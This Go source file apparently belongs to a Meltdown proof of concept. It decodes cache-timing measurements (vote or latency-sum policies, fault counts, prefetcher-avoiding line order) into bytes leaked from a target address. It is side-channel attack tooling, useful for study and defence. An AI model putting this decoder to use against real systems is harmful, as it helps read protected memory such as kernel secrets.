package meltdown

import (
	"fmt"
)

// DecodePolicy selects how per-round timing observations are
// turned into a byte.
type DecodePolicy int

const (
	// MajorityVote counts, for every line, the rounds in which
	// its read latency was below the threshold. The line with
	// the most votes wins. Ties go to the lowest line.
	MajorityVote DecodePolicy = iota

	// CumulativeSum adds up every line's read latency across
	// rounds. The first line whose sum is below
	// rounds * threshold wins. If no line qualifies, the line
	// with the smallest sum wins (lowest line on ties).
	CumulativeSum
)

// ParseDecodePolicy parses "vote" or "sum".
func ParseDecodePolicy(str string) (DecodePolicy, error) {
	switch str {
	case "vote":
		return MajorityVote, nil
	case "sum":
		return CumulativeSum, nil
	default:
		return 0, fmt.Errorf("unknown decode policy: %q", str)
	}
}

func (o DecodePolicy) String() string {
	switch o {
	case MajorityVote:
		return "vote"
	case CumulativeSum:
		return "sum"
	default:
		return fmt.Sprintf("unknown (%d)", int(o))
	}
}

// NewSignal returns an empty Signal for the policy.
func (o DecodePolicy) NewSignal(threshold uint64) Signal {
	switch o {
	case CumulativeSum:
		return NewSumSignal(threshold)
	default:
		return NewVoteSignal(threshold)
	}
}

// Signal accumulates timing observations for one target byte.
type Signal interface {
	// Reset discards every observation.
	Reset()

	// Record adds the read latency of a line for the
	// current round.
	Record(line byte, latency uint64)

	// EndRound marks the end of the current round.
	EndRound()

	// Decode returns the most likely byte value. It does
	// not modify the Signal.
	Decode() DecodedByte
}

// DecodedByte is the result of decoding one target byte.
type DecodedByte struct {
	// Address is the target address.
	Address uintptr

	// Value is the decoded byte.
	Value byte

	// Score is the winning line's confidence: votes for
	// MajorityVote, and the distance below rounds * threshold
	// for CumulativeSum.
	Score uint64

	// RunnerUp and RunnerUpScore describe the second best line.
	RunnerUp      byte
	RunnerUpScore uint64

	// Faults is the number of rounds that raised a fault.
	Faults uint
}

// Clear reports whether the winner beat the runner up by a wide
// margin (at least twice its score).
func (o DecodedByte) Clear() bool {
	return o.Score > 0 && o.Score >= 2*o.RunnerUpScore
}

func (o DecodedByte) String() string {
	status := "unclear"
	if o.Clear() {
		status = "clear"
	}

	return fmt.Sprintf("0x%x: 0x%02x score=%d (second best: 0x%02x score=%d) %s faults=%d",
		o.Address, o.Value, o.Score, o.RunnerUp, o.RunnerUpScore, status, o.Faults)
}

// sampleLine maps the i'th sample of a round to a line. Lines are
// visited in a fixed permutation rather than in index order so the
// stride prefetcher does not pull in lines ahead of the reads.
func sampleLine(i int) byte {
	return byte((i*167 + 13) & 0xff)
}

// NewVoteSignal returns an empty MajorityVote Signal.
func NewVoteSignal(threshold uint64) *VoteSignal {
	return &VoteSignal{
		threshold: threshold,
	}
}

// VoteSignal is a per-line histogram of hot observations.
type VoteSignal struct {
	threshold uint64
	votes     [NumLines]uint64
}

func (o *VoteSignal) Reset() {
	o.votes = [NumLines]uint64{}
}

func (o *VoteSignal) Record(line byte, latency uint64) {
	if latency < o.threshold {
		o.votes[line]++
	}
}

// AddVotes adds n votes to line.
func (o *VoteSignal) AddVotes(line byte, n uint64) {
	o.votes[line] += n
}

// Votes returns the number of votes for line.
func (o *VoteSignal) Votes(line byte) uint64 {
	return o.votes[line]
}

func (o *VoteSignal) EndRound() {}

func (o *VoteSignal) Decode() DecodedByte {
	best, next := -1, -1

	for i := range o.votes {
		switch {
		case best < 0 || o.votes[i] > o.votes[best]:
			next = best
			best = i
		case next < 0 || o.votes[i] > o.votes[next]:
			next = i
		}
	}

	return DecodedByte{
		Value:         byte(best),
		Score:         o.votes[best],
		RunnerUp:      byte(next),
		RunnerUpScore: o.votes[next],
	}
}

// NewSumSignal returns an empty CumulativeSum Signal.
func NewSumSignal(threshold uint64) *SumSignal {
	return &SumSignal{
		threshold: threshold,
	}
}

// SumSignal is a per-line sum of read latencies.
type SumSignal struct {
	threshold uint64
	rounds    uint64
	sums      [NumLines]uint64
}

func (o *SumSignal) Reset() {
	o.rounds = 0
	o.sums = [NumLines]uint64{}
}

func (o *SumSignal) Record(line byte, latency uint64) {
	o.sums[line] += latency
}

func (o *SumSignal) EndRound() {
	o.rounds++
}

// Sum returns the accumulated latency of line.
func (o *SumSignal) Sum(line byte) uint64 {
	return o.sums[line]
}

func (o *SumSignal) Decode() DecodedByte {
	limit := o.rounds * o.threshold

	chosen := -1
	lowest := 0
	for i := range o.sums {
		if chosen < 0 && o.sums[i] < limit {
			chosen = i
		}
		if o.sums[i] < o.sums[lowest] {
			lowest = i
		}
	}
	if chosen < 0 {
		chosen = lowest
	}

	next := -1
	for i := range o.sums {
		if i == chosen {
			continue
		}
		if next < 0 || o.sums[i] < o.sums[next] {
			next = i
		}
	}

	return DecodedByte{
		Value:         byte(chosen),
		Score:         below(limit, o.sums[chosen]),
		RunnerUp:      byte(next),
		RunnerUpScore: below(limit, o.sums[next]),
	}
}

func below(limit uint64, sum uint64) uint64 {
	if sum >= limit {
		return 0
	}
	return limit - sum
}
